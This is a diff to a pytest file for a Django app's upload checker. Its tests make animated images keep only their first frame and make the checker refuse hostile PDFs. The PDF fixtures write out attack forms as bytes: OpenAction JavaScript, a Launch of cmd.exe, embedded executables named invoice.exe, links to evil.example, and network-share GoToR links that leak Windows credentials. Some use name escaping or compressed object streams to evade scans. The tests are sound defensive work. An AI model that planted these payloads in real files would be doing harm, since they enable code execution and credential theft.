@@ -3,21 +3,32 @@
 import io
 import zipfile
 import zlib
+from pathlib import Path
 
 import pypdf
 import pytest
+from django.conf import settings as django_settings
 from django.core.exceptions import ValidationError
 from django.urls import reverse
-from PIL import Image
+from fpdf import FPDF
+from PIL import Image, ImageFile
 
 from declarations.forms import ProfileEntryForm, entry_form_class
 from declarations.models import PrivateFile
 from declarations.pdfdoc import pdf_document
-from declarations.samples import ENTRY_DATA, MINIMAL_PDF, PDF_PAGES, image_bytes, pdf_of_size
+from declarations.samples import (
+    ENTRY_DATA,
+    MINIMAL_PDF,
+    PDF_PAGES,
+    image_bytes,
+    pdf_of_size,
+    pdf_with_text,
+    scan_image,
+)
 from declarations.sections import get_section
 from declarations.uploads import ALLOWED_TYPES, check_upload, type_error
 
-from .samples import png_bomb, upload
+from .samples import animated_gif, animated_png, png_bomb, upload
 
 ALLOWED_MESSAGE = "只能上传 pdf、jpg、jpeg、png、gif 格式"
 
@@ -169,21 +180,67 @@ def test_large_upload_streams_to_a_temporary_file(applicant_client, settings, mo
     assert PrivateFile.objects.get().size > 8192
 
 
-def test_animated_gif_keeps_its_frames():
+def test_animated_gif_keeps_its_first_frame_only():
     frames = [Image.new("RGB", (30, 30), (i * 60, 0, 0)) for i in range(4)]
     buffer = io.BytesIO()
     frames[0].save(buffer, "GIF", save_all=True, append_images=frames[1:], duration=100, loop=0)
-    stored = check_upload(upload("anim.gif", buffer.getvalue())).content
-    assert Image.open(stored).n_frames == 4
+    stored = Image.open(check_upload(upload("anim.gif", buffer.getvalue())).content)
+    assert stored.n_frames == 1
+    assert stored.convert("RGB").getpixel((5, 5)) == (0, 0, 0)
 
 
-def test_gif_with_a_truncated_later_frame_is_refused():
+@pytest.fixture
+def decoded_frames(monkeypatch):
+    """The frame numbers Pillow decodes; a fourth decoding fails the test at once (decoding every
+    frame of the animations below would take a worker tens of seconds)."""
+    frames: list[int] = []
+    original = ImageFile.ImageFile.load
+
+    def spy(self):
+        if self.tile:  # only a load that has pixel data left to decode counts
+            frames.append(self.tell())
+            assert len(frames) <= 3, f"decoded frames {frames}"
+        return original(self)
+
+    monkeypatch.setattr(ImageFile.ImageFile, "load", spy)
+    return frames
+
+
+@pytest.mark.parametrize(
+    ("name", "content"),
+    # The APNG's animation chunk comes after the first 261 bytes, which the type check reads.
+    [("anim.gif", animated_gif(frames=60, size=3000)), ("anim.png", animated_png(frames=60, size=3000, comment=300))],
+    ids=["gif", "apng"],
+)
+def test_many_frames_of_a_large_canvas_are_not_decoded(decoded_frames, name, content):
+    assert len(content) < 10_000
+    checked = check_upload(upload(name, content))
+    assert set(decoded_frames) == {0}
+    stored = Image.open(checked.content)
+    assert (stored.size, getattr(stored, "n_frames", 1)) == ((3000, 3000), 1)
+
+
+def test_apng_recognised_by_its_first_bytes_is_refused(decoded_frames):
+    assert ALLOWED_MESSAGE in _refused("anim.png", animated_png()).messages[0]
+    assert decoded_frames == []
+
+
+def test_gif_with_a_truncated_later_frame_is_stored_without_it():
     frames = [Image.effect_noise((60, 60), 90 + i).convert("RGB") for i in range(3)]
     buffer = io.BytesIO()
     frames[0].save(buffer, "GIF", save_all=True, append_images=frames[1:], duration=100)
     content = buffer.getvalue()
-    error = _refused("anim.gif", content[: len(content) - 200])
-    assert "已损坏或不完整" in error.messages[0]
+    stored = Image.open(check_upload(upload("anim.gif", content[: len(content) - 200])).content)
+    assert stored.n_frames == 1
+
+
+@pytest.mark.django_db
+def test_animated_upload_through_the_form_stores_one_frame(applicant_client, decoded_frames):
+    data = {**ENTRY_DATA["papers"], "scan": upload("证书.gif", animated_gif(), "image/gif")}
+    response = applicant_client.post(reverse("declarations:entry-add", args=["papers"]), data)
+    assert response.status_code == 302
+    with PrivateFile.objects.get().file.open() as stored:
+        assert Image.open(stored).n_frames == 1
 
 
 # --- Hostile files disguised as allowed types --------------------------------------------------
@@ -217,6 +274,12 @@ def _pdf_with(*extra_objects: bytes, catalog_extra: bytes = b"") -> bytes:
     return pdf_document([b"<</Type/Catalog/Pages 2 0 R" + catalog_extra + b">>", *PDF_PAGES[1:], *extra_objects])
 
 
+def _pdf_on_page(page_extra: bytes, *extra_objects: bytes) -> bytes:
+    """A one-page PDF whose page dictionary has `page_extra`; the extra objects are numbered from 4."""
+    page = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]" + page_extra + b">>"
+    return pdf_document([*PDF_PAGES[:2], page, *extra_objects])
+
+
 @pytest.mark.parametrize(
     "content",
     [
@@ -230,16 +293,71 @@ def _pdf_with(*extra_objects: bytes, catalog_extra: bytes = b"") -> bytes:
         _pdf_with(b"<</S/Launch/F(cmd.exe)>>", catalog_extra=b"/OpenAction 4 0 R"),
         # Another file carried inside.
         _pdf_with(b"<</Type/EmbeddedFile/Length 4>>stream\nMZ\x90\x00\nendstream"),
+        # A file attached to a page, its stream without /Type /EmbeddedFile.
+        _pdf_on_page(
+            b"/Annots[4 0 R]",
+            b"<</Type/Annot/Subtype/FileAttachment/Rect[0 0 10 10]"
+            b"/FS<</Type/Filespec/F(invoice.exe)/EF<</F 5 0 R>>>>>>",
+            b"<</Length 4>>stream\nMZ\x90\x00\nendstream",
+        ),
+        # The same with the names escaped and no file specification type.
+        _pdf_on_page(
+            b"/Annots[4 0 R]",
+            b"<</Subtype/FileAtt#61chment/Rect[0 0 10 10]/FS<</F(invoice.exe)/E#46<</F 5 0 R>>>>>>",
+            b"<</Length 4>>stream\nMZ\x90\x00\nendstream",
+        ),
+        # A web address opened with the document, or when the page is shown.
+        _pdf_with(b"<</S/URI/URI(http://evil.example/track)>>", catalog_extra=b"/OpenAction 4 0 R"),
+        _pdf_on_page(b"/AA<</O 4 0 R>>", b"<</S/URI/URI(http://evil.example/track)>>"),
+        # A link that opens a document on a network share (leaks the Windows credentials).
+        _pdf_on_page(
+            b"/Annots[4 0 R]",
+            b"<</Type/Annot/Subtype/Link/Rect[0 0 10 10]/A<</S/GoToR/F(\\\\evil.example\\share\\a.pdf)/D[0/Fit]>>>>",
+        ),
+        _pdf_on_page(b"/Annots[4 0 R]", b"<</Subtype/Link/Rect[0 0 10 10]/A<</S/G#6FToR/F(//evil.example/a.pdf)>>>>"),
+        # A link to a web site.
+        _pdf_on_page(
+            b"/Annots[4 0 R]",
+            b"<</Type/Annot/Subtype/Link/Rect[0 0 10 10]/A<</S/URI/URI(https://evil.example/)>>>>",
+        ),
+        # A form with a field.
+        _pdf_with(b"<</Fields[5 0 R]>>", b"<</FT/Tx/T(name)/V(x)>>", catalog_extra=b"/AcroForm 4 0 R"),
+        # Kinds the list does not know are refused by default.
+        _pdf_with(b"<</Type/Sound/Length 0>>stream\n\nendstream"),
+        _pdf_on_page(b"/Annots[4 0 R]", b"<</Type/Annot/Subtype/Screen/Rect[0 0 10 10]>>"),
+        _pdf_on_page(b"/Annots[4 0 R]", b"<</Subtype/Link/Rect[0 0 10 10]/A<</S/Rendition/R 5 0 R>>>>"),
+        # A kind named in another object.
+        _pdf_with(b"<</S 5 0 R/JS(app.alert(1))>>", b"/JavaScript", catalog_extra=b"/OpenAction 4 0 R"),
+        _pdf_on_page(b"/Annots[4 0 R]", b"<</Subtype 5 0 R/Rect[0 0 10 10]>>", b"/FileAttachment"),
     ],
-    ids=["open-action-js", "escaped-names", "names-tree-js", "launch", "embedded-file"],
+    ids=[
+        "open-action-js",
+        "escaped-names",
+        "names-tree-js",
+        "launch",
+        "embedded-file",
+        "file-attachment",
+        "file-attachment-escaped",
+        "open-action-uri",
+        "page-aa-uri",
+        "gotor-network-share",
+        "gotor-escaped",
+        "uri-link",
+        "form-field",
+        "unknown-type",
+        "unknown-annotation",
+        "unknown-action",
+        "indirect-action-name",
+        "indirect-annotation-name",
+    ],
 )
 def test_pdf_with_active_content_is_refused(content):
     assert ACTIVE_PDF_MESSAGE in _refused("scan.pdf", content).messages[0]
 
 
-def test_pdf_with_javascript_inside_a_compressed_object_stream_is_refused():
-    """Objects packed in an object stream are compressed: no scan of the raw bytes sees them."""
-    packed = b"<</S/JavaScript/JS(app.alert(1))>>"
+def _pdf_with_object_stream(packed: bytes) -> bytes:
+    """A PDF whose catalog opens object 4 as an action, object 4 (`packed`) compressed inside an
+    object stream, so no scan of the raw bytes sees it."""
     header = b"4 0 "
     data = zlib.compress(header + packed)
     objects = [
@@ -268,15 +386,105 @@ def test_pdf_with_javascript_inside_a_compressed_object_stream_is_refused():
         + b"\nendstream\nendobj\n"
     )
     out += b"startxref\n%d\n%%%%EOF\n" % xref_offset
-    content = bytes(out)
-    assert b"JavaScript" not in content
+    return bytes(out)
+
+
+@pytest.mark.parametrize(
+    "packed",
+    [b"<</S/JavaScript/JS(app.alert(1))>>", b"<</S/GoToR/F(//evil.example/a.pdf)>>", b"<</S/Unknown>>"],
+    ids=["javascript", "gotor", "unknown-action"],
+)
+def test_pdf_with_active_content_inside_a_compressed_object_stream_is_refused(packed):
+    content = _pdf_with_object_stream(packed)
+    assert packed[4:12] not in content
     assert ACTIVE_PDF_MESSAGE in _refused("scan.pdf", content).messages[0]
 
 
-def test_ordinary_pdf_with_text_and_links_is_accepted():
-    link = b"<</Type/Annot/Subtype/Link/Rect[0 0 10 10]/A<</S/URI/URI(https://www.mohurd.gov.cn/)>>>>"
-    content = _pdf_with(link)
+def test_pdf_opened_at_a_page_inside_a_compressed_object_stream_is_accepted():
+    content = _pdf_with_object_stream(b"<</S/GoTo/D[3 0 R/Fit]>>")
     assert check_upload(upload("scan.pdf", content)).size == len(content)
+
+
+def _fpdf_document() -> bytes:
+    """What fpdf2 writes: a page opened at its width, text in a core font, an image, an internal link."""
+    pdf = FPDF()
+    pdf.add_page()
+    pdf.set_font("helvetica", size=12)
+    target = pdf.add_link(page=2)
+    pdf.cell(0, 10, "Certificate, see page 2", link=target, new_x="LMARGIN", new_y="NEXT")
+    pdf.image(Image.open(io.BytesIO(scan_image("certificate"))), w=80)
+    pdf.add_page()
+    pdf.cell(0, 10, "Page 2")
+    return bytes(pdf.output())
+
+
+def _scanned_pages() -> bytes:
+    """A scan saved as a PDF by Pillow, two pages."""
+    buffer = io.BytesIO()
+    first, second = (Image.open(io.BytesIO(scan_image(label))) for label in ("page 1", "page 2"))
+    first.save(buffer, "PDF", save_all=True, append_images=[second.convert("L")], resolution=150)
+    return buffer.getvalue()
+
+
+def _pypdf_document() -> bytes:
+    """Pages copied by pypdf's writer, with an outline entry and page labels."""
+    writer = pypdf.PdfWriter(clone_from=io.BytesIO(pdf_with_text("Evidence")))
+    writer.add_blank_page()
+    writer.add_outline_item(title="Page 2", page_number=1)
+    writer.set_page_label(0, 1, "/D")
+    buffer = io.BytesIO()
+    writer.write(buffer)
+    return buffer.getvalue()
+
+
+@pytest.mark.parametrize(
+    "content",
+    [
+        MINIMAL_PDF,
+        pdf_with_text("Diploma"),
+        pdf_of_size(5000),
+        # A link to another place in the document.
+        _pdf_on_page(b"/Annots[4 0 R]", b"<</Type/Annot/Subtype/Link/Rect[0 0 10 10]/A<</S/GoTo/D[3 0 R/Fit]>>>>"),
+        _pdf_on_page(b"/Annots[4 0 R]", b"<</Type/Annot/Subtype/Link/Rect[0 0 10 10]/Dest[3 0 R/XYZ 0 0 0]>>"),
+        # A note and a highlight.
+        _pdf_on_page(
+            b"/Annots[4 0 R 5 0 R]",
+            b"<</Type/Annot/Subtype/Text/Rect[0 0 10 10]/Contents(ok)>>",
+            b"<</Type/Annot/Subtype/Highlight/Rect[0 0 10 10]/QuadPoints[0 0 10 0 0 10 10 10]>>",
+        ),
+        # A linearized file's hint stream.
+        _pdf_with(b"<</S 36/Length 0>>stream\n\nendstream"),
+        # A form without fields.
+        _pdf_with(b"<</Fields[]>>", catalog_extra=b"/AcroForm 4 0 R"),
+        _fpdf_document(),
+        _scanned_pages(),
+        _pypdf_document(),
+    ],
+    ids=[
+        "minimal",
+        "text",
+        "padded",
+        "goto-link",
+        "dest-link",
+        "annotations",
+        "hint-stream",
+        "empty-form",
+        "fpdf2",
+        "pillow-scan",
+        "pypdf",
+    ],
+)
+def test_ordinary_pdf_is_accepted(content):
+    assert check_upload(upload("scan.pdf", content)).size == len(content)
+
+
+@pytest.mark.django_db
+@pytest.mark.skipif(not Path(django_settings.PDF_FONT_PATH).exists(), reason="needs the CJK font")
+def test_the_declaration_form_pdf_is_accepted_as_evidence(applicant_client, submitted):
+    response = applicant_client.get(reverse("declarations:declaration-pdf", args=[submitted.pk]))
+    content = b"".join(response.streaming_content) if response.streaming else response.content
+    assert content.startswith(b"%PDF-")
+    assert check_upload(upload("申报表.pdf", content)).size == len(content)
 
 
 def test_password_protected_pdf_is_refused():
@@ -289,8 +497,19 @@ def test_password_protected_pdf_is_refused():
 
 
 @pytest.mark.django_db
-def test_pdf_refusal_is_shown_in_the_form_and_nothing_is_stored(applicant_client):
-    bad = _pdf_with(b"<</S/JavaScript/JS(app.alert(1))>>", catalog_extra=b"/OpenAction 4 0 R")
+@pytest.mark.parametrize(
+    "bad",
+    [
+        _pdf_with(b"<</S/JavaScript/JS(app.alert(1))>>", catalog_extra=b"/OpenAction 4 0 R"),
+        _pdf_on_page(
+            b"/Annots[4 0 R]",
+            b"<</Subtype/FileAttachment/Rect[0 0 10 10]/FS<</F(invoice.exe)/EF<</F 5 0 R>>>>>>",
+            b"<</Length 4>>stream\nMZ\x90\x00\nendstream",
+        ),
+    ],
+    ids=["javascript", "file-attachment"],
+)
+def test_pdf_refusal_is_shown_in_the_form_and_nothing_is_stored(applicant_client, bad):
     data = {**ENTRY_DATA["papers"], "scan": upload("论文.pdf", bad, "application/pdf")}
     response = applicant_client.post(reverse("declarations:entry-add", args=["papers"]), data)
     assert response.status_code == 400
